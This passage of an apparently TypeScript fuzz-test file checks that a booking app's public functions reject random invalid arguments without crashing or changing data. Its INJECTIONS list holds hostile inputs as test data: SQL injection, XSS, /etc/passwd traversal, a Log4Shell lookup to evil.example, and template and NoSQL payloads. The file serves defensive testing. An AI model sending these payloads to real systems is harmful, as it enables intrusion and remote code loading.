/// <reference types="vite/client" />
// Every public function and HTTP route, fed invalid arguments from a seeded
// PRNG: each call is rejected with a clear error (argument validation, or a
// ConvexError with a code and a message), never a crash, and leaves every
// table as it was. Public functions are discovered from the modules, so a new
// one fails this file until it has an entry here.
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { SignJWT, type CryptoKey } from "jose";
import { ConvexError } from "convex/values";
import { makeFunctionReference, type FunctionReference, type HttpRouter } from "convex/server";
import { api } from "./_generated/api";
import type { Id, TableNames } from "./_generated/dataModel";
import schema from "./schema";
import { LIMITS, STEPS } from "./shared/constants";
import { isSessionId } from "./shared/sessionId";
import { manageTokenFor } from "./mail.fixtures";
import { isIsoDate } from "./shared/isoDate";
import {
  MINUTE,
  MONDAY_8AM,
  PROVIDER_SETTINGS,
  VALID_DETAILS,
  addAdaAndBob,
  addMember,
  addProvider,
  addService,
  addUser,
  beat,
  book,
  freezeClockEachTest,
  newSigningKeys,
  newBackend,
  newSession,
  signIn,
  signedInTabAtReview,
  toReview,
  tuesdayAt,
  type Backend,
} from "./test.fixtures";

// ---- Discovery ----

type Kind = "query" | "mutation" | "action";
type Registered = { isPublic?: boolean; isQuery?: boolean; isMutation?: boolean; isAction?: boolean };

const loaded = import.meta.glob<Record<string, unknown>>(["./**/*.ts", "!./**/*.test.ts", "!./**/*.d.ts"], {
  eager: true,
});

/** "module.export" → kind, for every exported public query, mutation and action. */
const PUBLIC = new Map<string, Kind>();
for (const [path, exports] of Object.entries(loaded)) {
  for (const [name, value] of Object.entries(exports)) {
    const fn = value as Registered | null | undefined;
    if (fn?.isPublic !== true) continue;
    const kind = fn.isQuery ? "query" : fn.isMutation ? "mutation" : fn.isAction ? "action" : null;
    if (kind !== null) PUBLIC.set(`${path.slice(2, -3)}.${name}`, kind);
  }
}
const ROUTES = (loaded["./http.ts"].default as HttpRouter)
  .getRoutes()
  .map(([path, method]) => `${method} ${path}`);

// ---- Seeded randomness ----

type Rng = ReturnType<typeof prng>;

/** mulberry32: small, fast, and the same sequence for the same seed. */
function prng(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let x = state;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  return {
    int,
    chance: (p: number) => next() < p,
    pick: <T>(items: readonly T[]): T => items[int(items.length)],
  };
}

/** FNV-1a, so each test has its own fixed seed. */
function seedOf(text: string): number {
  let hash = 2166136261;
  for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), 16777619);
  return hash >>> 0;
}

const CHARACTERS = [
  "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
  " -_.:/@+;,'\"`\\%$#!?*&|<>()[]{}=~^",
  "\u0000\u0001\u0007\b\t\n\v\f\r\u001b\u007f\u0085",
  "éßøçñü€£¥中文日本語한국어עבריתالعربية",
  "\u00a0\u200b\u200c\u200d\u202e\u2066\u2028\u2029\ufeff",
  "😀🧪👩‍⚕️🏳️‍🌈",
  "０１２３ＡＢＣａｂｃ",
].map((pool) => Array.from(pool));

const INJECTIONS = [
  "'; DROP TABLE bookings; --",
  '" OR "1"="1',
  "<script>alert(1)</script>",
  "../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  '{"$ne":null}',
  "%00",
  "*",
  ".*",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "__proto__",
  "constructor",
];

/** A million UTF-16 code units (1.6 MB as UTF-8) of mixed text, far past every cap. */
const HUGE = "🧪x\u0000é".repeat(200 * 1024);

function randomString(rng: Rng): string {
  switch (rng.int(4)) {
    case 0:
      return rng.pick(INJECTIONS);
    case 1:
      return rng.pick(INJECTIONS) + randomString(rng);
    case 2: {
      const chunk = Array.from({ length: 1 + rng.int(8) }, () => rng.pick(rng.pick(CHARACTERS))).join("");
      return chunk.repeat(20 + rng.int(600));
    }
    default:
      return Array.from({ length: rng.int(48) }, () => rng.pick(rng.pick(CHARACTERS))).join("");
  }
}

/**
 * Field names a Convex client can send: printable ASCII, not starting with "$".
 * Not Object.prototype's ("constructor", "__proto__"…): convex-test's validator
 * looks fields up on a plain object and lets those through (a deployment refuses them).
 */
function randomFieldName(rng: Rng): string {
  const name = Array.from({ length: 1 + rng.int(12) }, () => String.fromCharCode(32 + rng.int(95))).join("");
  return name.startsWith("$") || name in Object.prototype ? `x${name}` : name;
}

/** Any value the Convex wire format can carry. */
function randomValue(rng: Rng, depth = 0): unknown {
  switch (rng.int(depth > 1 ? 6 : 8)) {
    case 0:
      return rng.pick([0, 1, -1, -0, 0.5, Number.NaN, Infinity, -Infinity, 1e308, 5e-324, rng.int(1e9) / 7]);
    case 1:
      return rng.pick([0n, -1n, 42n, 2n ** 63n - 1n, -(2n ** 63n)]);
    case 2:
      return rng.chance(0.5);
    case 3:
      return null;
    case 4:
      return new ArrayBuffer(rng.int(16));
    case 5:
      return randomString(rng);
    case 6:
      return Array.from({ length: rng.int(4) }, () => randomValue(rng, depth + 1));
    default:
      return Object.fromEntries(
        Array.from({ length: rng.int(4) }, () => [randomFieldName(rng), randomValue(rng, depth + 1)]),
      );
  }
}

/** A UUID from the PRNG: well formed, and never a tab's. */
function forgedSessionId(rng: Rng): string {
  const hex = (n: number) => Array.from({ length: n }, () => rng.int(16).toString(16)).join("");
  return `${hex(8)}-${hex(4)}-4${hex(3)}-${rng.pick(["8", "9", "a", "b"])}${hex(3)}-${hex(12)}`;
}

// ---- What each argument accepts ----

type Field = { optional?: boolean } & (
  | { type: "string"; accepts: (value: string) => boolean }
  | { type: "number"; accepts: (value: number) => boolean }
  | { type: "boolean" }
  | { type: "object"; fields: Record<string, Field> }
  | { type: "any" }
);

const matching = (pattern: RegExp): Field => ({ type: "string", accepts: (s) => pattern.test(s) });
const text = (max: number): Field => ({ type: "string", accepts: (s) => s.length <= max });
/** A document ID of `table` as convex-test spells it: digits, then the table name. */
const idOf = (table: TableNames): Field => matching(new RegExp(`^\\d+${table}$`));
const wholeNumber = (min: number, max: number): Field => ({
  type: "number",
  accepts: (n) => Number.isSafeInteger(n) && n >= min && n <= max,
});

const SESSION: Field = { type: "string", accepts: isSessionId };
const REFERENCE = matching(/^[A-HJKMNP-Z2-9]{8}$/);
const TIME_ZONE: Field = {
  type: "string",
  accepts: (zone) => {
    try {
      new Intl.DateTimeFormat("en-US", { timeZone: zone });
      return zone.length <= LIMITS.timeZone;
    } catch {
      return false;
    }
  },
};
const PROVIDER_CHOICE = matching(/^(any|\d+providers)$/);
const COUNTER = wholeNumber(0, Number.MAX_SAFE_INTEGER);
const START = wholeNumber(Date.UTC(2020, 0, 1), Date.UTC(2100, 0, 1));
const DETAILS: Field = {
  type: "object",
  fields: {
    name: text(LIMITS.name),
    email: text(LIMITS.email),
    phone: text(LIMITS.phone),
    notes: text(LIMITS.notes),
  },
};
/** Every string here is junk for the call (no refresh token or verifier exists). */
const JUNK: Field = { type: "string", accepts: () => false, optional: true };

type Path = { path: string[]; field: Field };

function pathsOf(fields: Record<string, Field>, prefix: string[] = []): Path[] {
  return Object.entries(fields).flatMap(([name, field]) => [
    { path: [...prefix, name], field },
    ...(field.type === "object" ? pathsOf(field.fields, [...prefix, name]) : []),
  ]);
}

/** A value of another type than the field's. */
function wrongType(rng: Rng, field: Field): unknown {
  for (;;) {
    const value = randomValue(rng);
    const type =
      Array.isArray(value) || value === null || value instanceof ArrayBuffer ? "other" : typeof value;
    if (type !== field.type) return value;
  }
}

const BAD_NUMBERS = [Number.NaN, Infinity, -Infinity, -1, -0.5, 0.5, 1.5, 1e308, -1e308, 5e-324, 2 ** 53 + 2];

/** A value of the field's type that it does not accept, or undefined when every one is fine. */
function badValue(rng: Rng, field: Field): unknown {
  if (field.type === "string") {
    for (let tries = 0; tries < 50; tries++) {
      const value = randomString(rng);
      if (!field.accepts(value)) return value;
    }
    return field.accepts(HUGE) ? undefined : HUGE;
  }
  if (field.type === "number") {
    for (;;) {
      const value = rng.chance(0.7) ? rng.pick(BAD_NUMBERS) : (rng.int(2e9) - 1e9) * 10 ** (rng.int(30) - 15);
      if (!field.accepts(value)) return value;
    }
  }
  return undefined;
}

// ---- Classifying what a call did ----

type Outcome =
  | { kind: "validation" | "library" | "crash"; text: string }
  | { kind: "refused"; code: string; text: string }
  | { kind: "resolved"; value: unknown; text: string };

const preview = (value: unknown) => {
  const shown =
    typeof value === "bigint"
      ? `${value}n`
      : value instanceof ArrayBuffer
        ? `ArrayBuffer(${value.byteLength})`
        : (JSON.stringify(value, (_, v: unknown) => (typeof v === "bigint" ? `${v}n` : v)) ?? String(value));
  return shown.length > 120 ? `${shown.slice(0, 120)}… (${shown.length} chars)` : shown;
};

/**
 * @convex-dev/auth's own refusals (plain Errors it throws on purpose; a real
 * deployment reports them as "Server Error"). Only auth.signIn may give them.
 */
const AUTH_LIBRARY_REFUSALS = [
  /^Provider `.*` is not configured, available providers are `password`\.$/s,
  /^Cannot sign in: Missing `provider`, `params.code` or `refreshToken`$/,
  /^Can't parse refresh token: /,
  /^InvalidAccountId$/,
  /^Missing `flow` param, it must be one of /,
  /^(Password reset|Email verification) is not enabled for password$/,
];

function classify(error: unknown): Outcome {
  if (error instanceof ConvexError) {
    const data: unknown = error.data;
    const {
      ZodError: issues,
      code,
      message,
    } = (data ?? {}) as { ZodError?: unknown; code?: unknown; message?: unknown };
    if (Array.isArray(issues) && issues.length > 0) {
      const messages = issues.map((issue) => (issue as { message?: unknown }).message);
      if (messages.every((m) => typeof m === "string" && m !== "")) {
        return { kind: "validation", text: `ZodError: ${preview(messages)}` };
      }
    }
    if (typeof code === "string" && code !== "" && typeof message === "string" && message !== "") {
      return { kind: "refused", code, text: `${code}: ${message}` };
    }
    return { kind: "crash", text: `ConvexError without a code and a message: ${preview(data)}` };
  }
  // convex-test's validator trips over null where it expects an object (a deployment says "ArgumentValidationError").
  if (error instanceof TypeError && /at validateFunctionArgs \(.*convex-test/.test(error.stack ?? "")) {
    return { kind: "validation", text: `convex-test validator: ${error.message}` };
  }
  if (error instanceof Error && error.name === "Error") {
    // convex-test's argument validator (a deployment says "ArgumentValidationError").
    if (error.message.startsWith("Validator error: "))
      return { kind: "validation", text: preview(error.message) };
    if (AUTH_LIBRARY_REFUSALS.some((pattern) => pattern.test(error.message))) {
      return { kind: "library", text: preview(error.message) };
    }
  }
  const name = error instanceof Error ? error.name : typeof error;
  return { kind: "crash", text: `${name}: ${preview(error instanceof Error ? error.message : error)}` };
}

async function attempt(call: () => Promise<unknown>): Promise<Outcome> {
  try {
    const value = await call();
    return { kind: "resolved", value: value ?? null, text: `resolved ${preview(value ?? null)}` };
  } catch (error) {
    return classify(error);
  }
}

// ---- The whole database ----

const TABLES = Object.keys(schema.tables) as TableNames[];
type Snapshot = Record<string, Record<string, unknown>[]>;

/** Every table of the schema, plus the scheduled functions. */
function database(t: Backend): Promise<Snapshot> {
  return t.run(async (ctx) => {
    const snapshot: Snapshot = {};
    for (const table of TABLES) snapshot[table] = await ctx.db.query(table).collect();
    snapshot._scheduled_functions = await ctx.db.system.query("_scheduled_functions").collect();
    return snapshot;
  });
}

/**
 * The snapshot without the rate-limit buckets of `keys` (a call that is
 * answered spends its caller's budget) and the sign-in throttle's counts (a
 * failed sign-in is counted, whatever made it fail).
 */
function withoutBudgetsOf(snapshot: Snapshot, keys: (string | null)[]): Snapshot {
  return {
    ...snapshot,
    rateLimits: snapshot.rateLimits.filter((row) => !keys.includes(row.key as string)),
    signInThrottles: [],
  };
}

async function expectUnchanged(t: Backend, before: Snapshot, label: string, spends: (string | null)[] = []) {
  const after = withoutBudgetsOf(await database(t), spends);
  const expected = withoutBudgetsOf(before, spends);
  // Comparing text first keeps the thousands of checks fast; toEqual shows the difference.
  if (JSON.stringify(after) !== JSON.stringify(expected)) {
    expect(after, `${label} changed the database`).toEqual(expected);
  }
}

// ---- Realistic state ----

const TEN = tuesdayAt(10);
const ELEVEN = tuesdayAt(11);
const NOON = tuesdayAt(12);
const TWO = tuesdayAt(14);
const THREE = tuesdayAt(15);
const FOUR = tuesdayAt(16);
const BOB = { name: "Bob Babbage", email: "bob@example.org", phone: "+44 20 7946 1111", notes: "Shoulder." };
const EVE = { name: "Eve Mallory", email: "eve@example.net", phone: "+1 202 555 0100", notes: "" };
const GUEST = { name: "Grace Hopper", email: "grace@navy.example", phone: "+1 202 555 0147", notes: "Back." };
const UNKNOWN_REFERENCE = "ZZZZZZZZ";

type Caller = Pick<Backend, "query" | "mutation" | "action">;

type World = Awaited<ReturnType<typeof seedWorld>>;

/**
 * Ada and Bob signed in with tabs at review holding times, a tab of Ada's that
 * booked (bound to her by its heartbeat alone), a guest who booked and started
 * another draft, an expiry notice, and Eve: signed in, one booking, no tabs,
 * the caller who tries other people's tabs.
 */
async function seedWorld(t: Backend) {
  const serviceId = await addService(t);
  const providerId = await addProvider(t, [serviceId], { name: "Ann Smith" });
  const choice = { serviceId, providerChoice: "any" as const };
  const { ada, bob } = await addAdaAndBob(t);
  const eve = await addUser(t, "eve@example.net");

  // Filled in signed out, carried over at login: its first ID is now unused.
  const adaRotated = newSession();
  await toReview(t, adaRotated, { ...choice, start: TEN });
  const ada1 = await signIn(ada.as, adaRotated);
  const adaBooked = await signedInTabAtReview(t, ada.as, { ...choice, start: TWO });
  const adaReference = await book(ada.as, adaBooked);
  const bob1 = await signedInTabAtReview(t, bob.as, { ...choice, start: ELEVEN, details: BOB });
  const eveTab = await signedInTabAtReview(t, eve.as, { ...choice, start: FOUR, details: EVE });
  const eveReference = await book(eve.as, eveTab);
  // Her tab has closed since, and the sweeper took its heartbeat: she has no tabs.
  await t.run(async (ctx) => {
    const heartbeats = ctx.db.query("heartbeats").withIndex("by_sessionId", (q) => q.eq("sessionId", eveTab));
    for (const heartbeat of await heartbeats.collect()) await ctx.db.delete("heartbeats", heartbeat._id);
  });

  const guest = newSession();
  await toReview(t, guest, { ...choice, start: THREE, details: GUEST });
  const guestReference = await book(t, guest);
  // The guest's emailed manage link, opened in another browser's tab.
  const guestToken = await manageTokenFor(t, guestReference);

  const manager = newSession();
  await t.mutation(api.manage.open, { sessionId: manager, token: guestToken });
  await t.mutation(api.drafts.chooseService, { sessionId: guest, serviceId });
  await t.mutation(api.drafts.saveDetails, { sessionId: guest, details: GUEST, rev: 2 });

  await beat(ada.as, ada1, 1);
  await beat(ada.as, adaBooked, 1);
  await beat(bob.as, bob1, 1);
  await beat(t, guest, 1);
  const expired = newSession();
  await t.run((ctx) =>
    ctx.db.insert("sessionNotices", { sessionId: expired, kind: "expired", createdAt: MONDAY_8AM - MINUTE }),
  );

  // Well-formed document IDs that name nothing any more.
  const goneServiceId = await addService(t, { slug: "gone" });
  const goneProviderId = await addProvider(t, [], { name: "Gone" });
  await t.run(async (ctx) => {
    await ctx.db.delete("services", goneServiceId);
    await ctx.db.delete("providers", goneProviderId);
  });

  return {
    t,
    anon: t as Caller,
    ada,
    bob,
    eve,
    serviceId,
    providerId,
    goneServiceId,
    goneProviderId,
    tabs: { ada: ada1, adaBooked, adaRotated, bob: bob1, guest, expired, manager },
    references: { ada: adaReference, eve: eveReference, guest: guestReference },
    guestToken,
    team: await seedTeam(t, providerId),
  };
}

/**
 * The console's side: an owner, Ann's staff, Ben (a second provider) and his
 * staff, an override and time off on Ann's calendar, an open staff invite
 * (its token kept for the one caller who may use it) and a newcomer to use it.
 */
async function seedTeam(t: Backend, ann: Id<"providers">) {
  const ben = await addProvider(t, [], { name: "Ben Jones" });
  const owner = await addMember(t, "owner@clinic.example", "owner");
  const annStaff = await addMember(t, "ann.staff@clinic.example", "staff", ann);
  const benStaff = await addMember(t, "ben.staff@clinic.example", "staff", ben);
  const newcomer = await addUser(t, "new.staff@clinic.example");
  const { token } = await owner.as.mutation(api.team.inviteStaff, { providerId: ann });
  await owner.as.mutation(api.providerAdmin.setOverride, {
    providerId: ann,
    date: "2026-11-05",
    closed: true,
    hours: [],
  });
  await owner.as.mutation(api.providerAdmin.addTimeOff, {
    providerId: ann,
    start: "2026-11-06T09:00",
    end: "2026-11-06T10:00",
    reason: "Course",
  });
  const timeOffId = (await t.run((ctx) => ctx.db.query("timeOff").first()))!._id;
  const inviteId = (await t.run((ctx) => ctx.db.query("invites").first()))!._id;
  const benStaffMemberId = (await t.run((ctx) =>
    ctx.db
      .query("members")
      .withIndex("by_userId", (q) => q.eq("userId", benStaff.userId))
      .unique(),
  ))!._id;
  return { ben, owner, annStaff, benStaff, benStaffMemberId, newcomer, token, timeOffId, inviteId };
}

type Context = "own" | "forged" | "foreign";

/** A caller and the tab it names: its own, a forged ID, or a signed-in user's tab it is not signed in as. */
function tabOf(w: World, rng: Rng, context: Context = rng.pick(["own", "forged", "foreign"])) {
  const stranger = rng.pick([w.anon, w.eve.as]);
  if (context === "forged") return { caller: stranger, sessionId: forgedSessionId(rng) };
  if (context === "foreign") return { caller: stranger, sessionId: rng.pick([w.tabs.ada, w.tabs.adaBooked]) };
  return rng.pick([
    { caller: w.ada.as, sessionId: w.tabs.ada },
    { caller: w.bob.as, sessionId: w.tabs.bob },
    { caller: w.anon, sessionId: w.tabs.guest },
  ]);
}

// ---- The entries ----

type Args = Record<string, unknown>;
type Expected = { resolves: unknown } | { rejects: string };
type Probe = { label: string; caller: Caller; args: Args; expected: Expected; spends: (string | null)[] };

type Entry = {
  fields: Record<string, Field>;
  /** Arguments that are well-formed apart from what a case breaks; "own" ones must be accepted. */
  base: (w: World, rng: Rng, context?: Context) => { caller: Caller; args: Args };
  /** Well-formed calls naming nothing of the caller's, answered (or refused) as designed. */
  designed?: (w: World, rng: Rng) => Probe[];
  /** auth.signIn: @convex-dev/auth's refusals and its "not signed in" answer are designed outcomes too. */
  auth?: true;
};

type Who = "anonymous" | "Eve";

/**
 * The same well-formed call on forged tab IDs (random UUIDs, Ada's ID in
 * upper case, her pre-login ID) and on Ada's tabs, by a signed-out caller and
 * by Eve. `forged` is left out where a new tab's call creates its own state.
 */
function tabProbes(
  w: World,
  rng: Rng,
  args: (sessionId: string, context: "forged" | "foreign") => Args,
  expected: { forged?: (who: Who) => Expected; foreign: (who: Who) => Expected },
): Probe[] {
  const probes: Probe[] = [];
  const forged = [forgedSessionId(rng), w.tabs.ada.toUpperCase(), w.tabs.adaRotated].filter(
    (id) => id !== w.tabs.ada,
  );
  const foreign = [
    ["Ada's tab at review", w.tabs.ada],
    ["Ada's tab after booking", w.tabs.adaBooked],
  ] as const;
  for (const [who, caller, userId] of [
    ["anonymous", w.anon, null],
    ["Eve", w.eve.as, w.eve.userId],
  ] as const) {
    const forgedAnswer = expected.forged;
    if (forgedAnswer !== undefined) {
      for (const id of forged) {
        const label = `forged tab ${id} as ${who}`;
        probes.push({
          label,
          caller,
          args: args(id, "forged"),
          expected: forgedAnswer(who),
          spends: [id, userId],
        });
      }
    }
    for (const [name, id] of foreign) {
      const label = `${name} as ${who}`;
      probes.push({
        label,
        caller,
        args: args(id, "foreign"),
        expected: expected.foreign(who),
        spends: [id, userId],
      });
    }
  }
  return probes;
}

const same = (expected: Expected) => () => expected;
const NOTHING = { resolves: null };
const NOT_OK = { resolves: { ok: false } };
const SIGNED_OUT = { rejects: "SIGNED_OUT" };
const FORBIDDEN = { rejects: "FORBIDDEN" };
const INCOMPLETE = { resolves: { ok: false, reason: "incomplete", step: "service" } };

/** A session function: `sessionId` plus `fields`, whose valid values `args` gives. */
function tabEntry(
  fields: Record<string, Field>,
  args: (w: World, rng: Rng) => Args,
  designed?: Entry["designed"],
): Entry {
  return {
    fields: { sessionId: SESSION, ...fields },
    base: (w, rng, context) => {
      const { caller, sessionId } = tabOf(w, rng, context);
      return { caller, args: { sessionId, ...args(w, rng) } };
    },
    designed,
  };
}

/** A manage-link function: acts on the booking the tab's link opened; tabs that opened none get `none`. */
function manageEntry(none: Expected): Entry {
  return {
    fields: { sessionId: SESSION },
    base: (w, rng, context) => {
      const { caller, sessionId } =
        context === "own" ? { caller: w.anon, sessionId: w.tabs.manager } : tabOf(w, rng, context);
      return { caller, args: { sessionId } };
    },
    designed: (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(none), foreign: same(none) }),
  };
}

const signedOutOrNotOk = (who: Who) => (who === "anonymous" ? SIGNED_OUT : NOT_OK);

/** Calendar searches well-formed but finding nothing: an empty answer, as for any day without times. */
function calendarProbes(
  w: World,
  search: Args,
  cases: [label: string, args: Args, answer: unknown][],
): Probe[] {
  return cases.map(([label, args, answer]) => ({
    label,
    caller: w.anon,
    args: { serviceId: w.serviceId, providerChoice: "any", timeZone: "UTC", ...search, ...args },
    expected: { resolves: answer },
    spends: [],
  }));
}

/** A choice naming a deleted row, on the guest's own tab: not ok, and it spends the tab's budget. */
const goneOnGuestTab = (w: World, what: string, args: Args): Probe => ({
  label: `a deleted ${what} on the guest's own tab`,
  caller: w.anon,
  args: { sessionId: w.tabs.guest, ...args },
  expected: NOT_OK,
  spends: [w.tabs.guest],
});

// Picking (select*) and Continue (choose*) take the same arguments and are refused alike.
const SERVICE_CHOICE_ENTRY = tabEntry(
  { serviceId: idOf("services") },
  (w) => ({ serviceId: w.serviceId }),
  // On a new tab this starts its draft (so no forged probe); on another user's tab it is refused.
  (w, rng) => [
    ...tabProbes(w, rng, (sessionId) => ({ sessionId, serviceId: w.serviceId }), {
      foreign: same(SIGNED_OUT),
    }),
    goneOnGuestTab(w, "service", { serviceId: w.goneServiceId }),
  ],
);

const PROVIDER_CHOICE_ENTRY = tabEntry(
  { providerChoice: PROVIDER_CHOICE },
  (w, rng) => ({ providerChoice: rng.pick(["any", w.providerId]) }),
  // No visible draft, or a provider that is gone: not ok, nothing written.
  (w, rng) => [
    ...tabProbes(w, rng, (sessionId) => ({ sessionId, providerChoice: "any" }), {
      forged: same(NOT_OK),
      foreign: same(NOT_OK),
    }),
    goneOnGuestTab(w, "provider", { providerChoice: w.goneProviderId }),
  ],
);

// ---- The business console ----

const PROVIDER_ID = idOf("providers");
const DATE: Field = { type: "string", accepts: isIsoDate };
const LOCAL_DATE_TIME = matching(/^\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\d|3[01])T([01]\d|2[0-3]):[0-5]\d$/);
/** Text the form trims first (zod's .trim() is String.prototype.trim), then caps. */
const trimmed = (max: number, min = 0): Field => ({
  type: "string",
  accepts: (s) => s.trim().length >= min && s.trim().length <= max,
});
const SERVICE_FIELDS: Record<string, Field> = {
  name: trimmed(80, 1),
  description: trimmed(300),
  durationMinutes: wholeNumber(5, 240),
  price: {
    type: "number",
    accepts: (n) => n >= 0 && n <= 100_000 && Math.abs(n * 100 - Math.round(n * 100)) < 1e-6,
  },
  currency: matching(/^(EUR|GBP|USD)$/),
  providerIds: { type: "any" },
};
const serviceForm = (w: World) => ({
  name: "Hydrotherapy",
  description: "In the pool.",
  durationMinutes: 45,
  price: 55.5,
  currency: "EUR",
  providerIds: [w.providerId],
});
const PROVIDER_FIELDS: Record<string, Field> = {
  name: trimmed(80, 1),
  bio: trimmed(300),
  timeZone: TIME_ZONE,
  weeklyHours: { type: "any" },
  bufferMinutes: wholeNumber(0, 120),
  minNoticeMinutes: wholeNumber(0, 30 * 24 * 60),
  bookingWindowDays: wholeNumber(1, 365),
  slotStepMinutes: wholeNumber(5, 240),
};
const AGENDA_FIELDS: Record<string, Field> = {
  date: DATE,
  days: { type: "number", accepts: (n) => n === 1 || n === 7 },
};

type Scope = "owner" | "provider" | "member";

/**
 * A console function: the owner (or, for a provider's calendar, Ann's staff)
 * may call it; a guest, a customer, a stranger and another provider's staff
 * are refused. Provider functions take Ann's `providerId` first.
 */
function consoleEntry(scope: Scope, fields: Record<string, Field>, args: (w: World) => Args): Entry {
  const withProvider = (w: World, a: Args) => (scope === "provider" ? { providerId: w.providerId, ...a } : a);
  return {
    fields: scope === "provider" ? { providerId: PROVIDER_ID, ...fields } : fields,
    base: (w, rng, context) => {
      const allowed = scope === "owner" ? [w.team.owner.as] : [w.team.owner.as, w.team.annStaff.as];
      const caller =
        context === "own" ? rng.pick(allowed) : rng.pick([...allowed, w.anon, w.ada.as, w.team.benStaff.as]);
      return { caller, args: withProvider(w, args(w)) };
    },
    designed: (w) => {
      const refused: [string, Caller, Expected][] = [
        ["a signed-out guest", w.anon, SIGNED_OUT],
        ["a customer with a booking", w.ada.as, FORBIDDEN],
        ["a signed-in stranger", w.eve.as, FORBIDDEN],
      ];
      if (scope !== "member") refused.push(["another provider's staff", w.team.benStaff.as, FORBIDDEN]);
      if (scope === "owner") refused.push(["Ann's staff", w.team.annStaff.as, FORBIDDEN]);
      const probes: Probe[] = refused.map(([label, caller, expected]) => ({
        label,
        caller,
        args: withProvider(w, args(w)),
        expected,
        spends: [],
      }));
      if (scope === "provider") {
        probes.push({
          label: "a provider that no longer exists, as the owner",
          caller: w.team.owner.as,
          args: { ...args(w), providerId: w.goneProviderId },
          expected: { rejects: "NOT_FOUND" },
          spends: [],
        });
      }
      return probes;
    },
  };
}

/** An emailed link opened on the manager's tab (own) or another caller's. */
function linkBase(token: (w: World) => string): Entry["base"] {
  return (w, rng, context) => {
    const { caller, sessionId } =
      context === "own" ? { caller: w.anon, sessionId: w.tabs.manager } : tabOf(w, rng, context);
    return { caller, args: { sessionId, token: token(w) } };
  };
}

/** Each token that opens nothing, on the manager's tab and a new one: one answer, spending both budgets. */
function wrongLinkProbes(w: World, rng: Rng, tokens: string[]): Probe[] {
  return tokens.flatMap((token) =>
    [w.tabs.manager, forgedSessionId(rng)].map((sessionId) => ({
      label: `token ${JSON.stringify(token.slice(0, 12))}… on ${sessionId === w.tabs.manager ? "the manager's tab" : "a new tab"}`,
      caller: w.anon,
      args: { sessionId, token },
      expected: { resolves: { ok: false, reason: "invalid" } },
      spends: [sessionId, "deployment"],
    })),
  );
}

const ENTRIES: Record<string, Entry> = {
  "auth.signIn": {
    fields: {
      provider: { type: "string", accepts: (p) => p === "password", optional: true },
      params: { type: "any", optional: true },
      verifier: JUNK,
      refreshToken: JUNK,
      calledBy: { type: "string", accepts: () => true, optional: true },
    },
    // No account exists for this email: every variation is a failed sign-in.
    base: (w) => ({
      caller: w.anon,
      args: {
        provider: "password",
        params: { flow: "signIn", email: "nobody@example.com", password: "not-it-123" },
      },
    }),
    auth: true,
  },
  "auth.signOut": { fields: {}, base: (w, rng) => ({ caller: rng.pick([w.anon, w.ada.as]), args: {} }) },
  "auth.isAuthenticated": {
    fields: {},
    base: (w, rng) => ({ caller: rng.pick([w.anon, w.ada.as]), args: {} }),
  },

  "availability.day": {
    fields: {
      serviceId: idOf("services"),
      providerChoice: PROVIDER_CHOICE,
      timeZone: TIME_ZONE,
      date: matching(/^\d{4}-\d{2}-\d{2}$/),
    },
    base: (w, rng) => ({
      caller: rng.pick([w.anon, w.ada.as]),
      args: {
        serviceId: w.serviceId,
        providerChoice: rng.pick(["any", w.providerId]),
        timeZone: "Europe/Paris",
        date: "2026-11-03",
      },
    }),
    designed: (w) =>
      calendarProbes(w, { date: "2026-11-03" }, [
        ["a deleted service", { serviceId: w.goneServiceId }, null],
        ["a deleted provider", { providerChoice: w.goneProviderId }, []],
        ["year 0000", { date: "0000-01-01" }, []],
        ["year 9999", { date: "9999-12-31" }, []],
      ]),
  },
  "availability.month": {
    fields: {
      serviceId: idOf("services"),
      providerChoice: PROVIDER_CHOICE,
      timeZone: TIME_ZONE,
      month: matching(/^\d{4}-\d{2}$/),
    },
    base: (w, rng) => ({
      caller: rng.pick([w.anon, w.ada.as]),
      args: {
        serviceId: w.serviceId,
        providerChoice: rng.pick(["any", w.providerId]),
        timeZone: "UTC",
        month: "2026-11",
      },
    }),
    designed: (w) =>
      calendarProbes(w, { month: "2026-11" }, [
        ["a deleted service", { serviceId: w.goneServiceId }, null],
        ["a deleted provider", { providerChoice: w.goneProviderId }, []],
        ["year 0000", { month: "0000-01" }, []],
        ["year 9999", { month: "9999-12" }, []],
      ]),
  },
  "catalog.services": { fields: {}, base: (w) => ({ caller: w.anon, args: {} }) },
  "catalog.providers": {
    fields: { serviceId: idOf("services") },
    base: (w) => ({ caller: w.anon, args: { serviceId: w.serviceId } }),
    // A service that no longer exists has no providers.
    designed: (w) => [
      {
        label: "a deleted service",
        caller: w.anon,
        args: { serviceId: w.goneServiceId },
        expected: { resolves: [] },
        spends: [],
      },
    ],
  },

  "drafts.get": tabEntry(
    {},
    () => ({}),
    // An empty tab has no draft, and another user's is hidden.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(NOTHING), foreign: same(NOTHING) }),
  ),
  "drafts.chooseService": SERVICE_CHOICE_ENTRY,
  "drafts.selectService": SERVICE_CHOICE_ENTRY,
  "drafts.chooseProvider": PROVIDER_CHOICE_ENTRY,
  "drafts.selectProvider": PROVIDER_CHOICE_ENTRY,
  "drafts.setTimeZone": tabEntry(
    { timeZone: TIME_ZONE },
    (_, rng) => ({ timeZone: rng.pick(["UTC", "Europe/Paris", "America/New_York"]) }),
    // On a new tab this starts its draft (so no forged probe); on another user's tab it is refused.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId, timeZone: "UTC" }), { foreign: same(SIGNED_OUT) }),
  ),
  "drafts.enterStep": tabEntry(
    { step: { type: "string", accepts: (s) => (STEPS as readonly string[]).includes(s) } },
    (_, rng) => ({ step: rng.pick(STEPS) }),
    // No visible draft: nothing to record (going back would give up the owner's time).
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId, step: "service" }), {
        forged: same(NOTHING),
        foreign: same(NOTHING),
